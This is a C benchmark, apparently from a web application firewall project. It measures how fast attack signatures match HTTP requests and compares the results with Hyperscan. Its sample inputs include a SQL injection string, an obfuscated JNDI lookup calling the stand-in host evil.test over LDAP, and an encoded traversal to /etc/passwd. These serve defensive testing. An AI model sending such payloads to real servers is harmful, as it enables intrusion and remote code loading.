// SPDX-License-Identifier: Apache-2.0
/*
 * What signatures cost a request in the capture thread: clean ones (budget 5 us) and attacks. Beside it,
 * where it was built with Hyperscan, what one pass of that over the same texts costs, with the same
 * expressions: the choice of docs/decisions/0028. Prints nanoseconds a request, best of five rounds; ends 1
 * if the budget is broken.
 *
 *     signatures_bench [REQUESTS]
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include "lib/util.h"
#include "policies/signatures.h"
#ifdef PICKET_HAVE_HYPERSCAN
#include <hs.h>
#endif

#define BUDGET_NS 5000.0

struct story {
	const char *name, *target;
	bool clean;
};

static const struct story stories[] = {
	{"plain path", "/api/v1/orders/12345/items?page=3&sort=name", true},
	{"encoded query", "/api/v1/%6frders/7/items?q=a%20b+c%27d&x=%2526", true},
	{"words of SQL in prose", "/search?q=select+a+hotel+or+a+union+hall+from+the+list", true},
	{"JSON in the query", "/items?filter=%7B%22name%22%3A%22O%27Brien%22%2C%22min%22%3A1%7D", true},
	{"SQL injection", "/users/42'%20OR%201=1--", false},
	{"lookup", "/x?q=%24%7B%24%7Blower%3Aj%7Dndi:ldap://evil.test/a%7D", false},
	{"traversal", "/files?name=..%252f..%252f..%252fetc%252fpasswd", false},
};

static double now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
	return (double)t.tv_sec * 1e9 + (double)t.tv_nsec;
}

static void header(struct http_request *r, const char *name, const char *value)
{
	r->headers[r->header_count++] = (struct http_header){span_from(name), span_from(value)};
}

/* The same head as detect_bench's. */
static void make_request(const struct story *s, struct http_request *r)
{
	const char *mark = strchr(s->target, '?');

	*r = (struct http_request){
		.method = SPAN("GET"),
		.target = span_from(s->target),
		.path = {s->target, strcspn(s->target, "?")},
		.query = mark ? span_from(mark + 1) : SPAN_NULL,
		.version_major = 1,
		.version_minor = 1,
	};
	header(r, "Host", "api.example.test");
	header(r, "User-Agent",
	       "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
	       "Safari/537.36");
	header(r, "Accept", "application/json, text/plain, */*");
	header(r, "Accept-Language", "en-US,en;q=0.9,de;q=0.8");
	header(r, "Accept-Encoding", "gzip, deflate, br");
	header(r, "Referer", "https://app.example.test/orders?page=3");
	header(r, "Content-Type", "application/json");
	header(r, "Connection", "keep-alive");
}

static double bench_ours(struct signatures *s, const struct story *story, unsigned requests, unsigned *hits)
{
	struct http_request request;
	struct signature_hits found;
	double best = 1e18;

	make_request(story, &request);
	for (int round = 0; round < 5; round++) {
		double start = now_ns();
		for (unsigned i = 0; i < requests; i++)
			if (signatures_run(s, &request, &found))
				abort();
		double took = (now_ns() - start) / requests;
		best = MIN(best, took);
	}
	*hits = found.count;
	return best;
}

#ifdef PICKET_HAVE_HYPERSCAN
/* Every expression that Hyperscan takes, as a prefilter; those that it does not take are told. */
static hs_database_t *hs_make(const struct signature_rules *rules, unsigned *ret_left_out)
{
	const char *texts[SIGNATURES_MAX];
	unsigned flags[SIGNATURES_MAX], ids[SIGNATURES_MAX], count = 0;
	static char joined[SIGNATURES_MAX][8192];
	hs_database_t *db = NULL;
	hs_compile_error_t *error = NULL;

	for (unsigned i = 0; i < rules->count; i++) {
		const struct signature *s = &rules->items[i];
		size_t at = 0;
		hs_expr_info_t *info = NULL;
		if (s->paranoia > 1)
			continue;
		for (unsigned k = 0; k < s->regexes.count && at < sizeof joined[i]; k++)
			at += (size_t)snprintf(joined[i] + at, sizeof joined[i] - at, "%s(?:%s)",
					       k ? "|" : "", s->regexes.items[k]);
		if (!at ||
		    hs_expression_info(joined[i], HS_FLAG_CASELESS | HS_FLAG_PREFILTER, &info, &error)) {
			hs_free_compile_error(error);
			error = NULL;
			++*ret_left_out;
			continue;
		}
		free(info);
		texts[count] = joined[i];
		flags[count] = HS_FLAG_CASELESS | HS_FLAG_SINGLEMATCH | HS_FLAG_PREFILTER |
			       HS_FLAG_MULTILINE | HS_FLAG_ALLOWEMPTY;
		ids[count] = i;
		count++;
	}
	if (hs_compile_multi(texts, flags, ids, count, HS_MODE_BLOCK, NULL, &db, &error)) {
		printf("hyperscan: %s\n", error->message);
		hs_free_compile_error(error);
	}
	return db;
}

static int hs_found(unsigned id, unsigned long long from, unsigned long long to, unsigned flags, void *arg)
{
	(void)id;
	(void)from;
	(void)to;
	(void)flags;
	++*(unsigned *)arg;
	return 0;
}

static double bench_hs(const hs_database_t *db, hs_scratch_t *scratch, const struct story *story,
		       unsigned requests, unsigned *found)
{
	struct http_request r;
	double best = 1e18;

	make_request(story, &r);
	for (int round = 0; round < 5; round++) {
		double start = now_ns();
		for (unsigned i = 0; i < requests; i++) {
			*found = 0;
			hs_scan(db, r.path.ptr, (unsigned)r.path.len, 0, scratch, hs_found, found);
			if (r.query.len)
				hs_scan(db, r.query.ptr, (unsigned)r.query.len, 0, scratch, hs_found, found);
			for (unsigned k = 0; k < r.header_count; k++)
				hs_scan(db, r.headers[k].value.ptr, (unsigned)r.headers[k].value.len, 0,
					scratch, hs_found, found);
		}
		double took = (now_ns() - start) / requests;
		best = MIN(best, took);
	}
	return best;
}

static void compare(const struct signature_rules *rules, unsigned requests)
{
	unsigned left_out = 0, found = 0;
	size_t size = 0;
	double start = now_ns();
	hs_database_t *db = hs_make(rules, &left_out);
	hs_scratch_t *scratch = NULL;

	if (!db || hs_alloc_scratch(db, &scratch))
		return;
	hs_database_size(db, &size);
	printf("hyperscan: compiled in %.0f ms, %zu KiB, %u signatures that it does not take\n",
	       (now_ns() - start) / 1e6, size / 1024, left_out);
	for (size_t i = 0; i < ARRAY_SIZE(stories); i++) {
		double ns = bench_hs(db, scratch, &stories[i], requests, &found);
		printf("hyperscan  %-24s %7.0f ns/request  %u reported\n", stories[i].name, ns, found);
	}
	hs_free_scratch(scratch);
	hs_free_database(db);
}
#else
static void compare(const struct signature_rules *rules, unsigned requests)
{
	(void)rules;
	(void)requests;
	printf("skipped: built without hyperscan\n");
}
#endif

int main(int argc, char **argv)
{
	const struct signatures_settings settings = {.paranoia = 1};
	struct buffer errors = BUFFER_INIT(4096);
	struct signatures *s = NULL;
	unsigned requests = argc > 1 ? (unsigned)strtoul(argv[1], NULL, 10) : 50000;
	int broken = 0;
	double start = now_ns();

	if (!requests || signatures_new(&settings, &s, &errors)) {
		fprintf(stderr, "cannot begin: %.*s\n", (int)errors.len, errors.data ? errors.data : "");
		return 2;
	}
	printf("signatures: compiled in %.0f ms\n", (now_ns() - start) / 1e6);
	for (size_t i = 0; i < ARRAY_SIZE(stories); i++) {
		unsigned hits = 0;
		double ns = bench_ours(s, &stories[i], requests, &hits);
		bool bad = stories[i].clean && (ns > BUDGET_NS || hits);
		printf("signatures %-24s %7.0f ns/request  %u found%s\n", stories[i].name, ns, hits,
		       bad ? "  BROKEN" : "");
		broken |= bad;
	}
	compare(signatures_rules(s), requests);
	signatures_free(s);
	buffer_free(&errors);
	return broken;
}
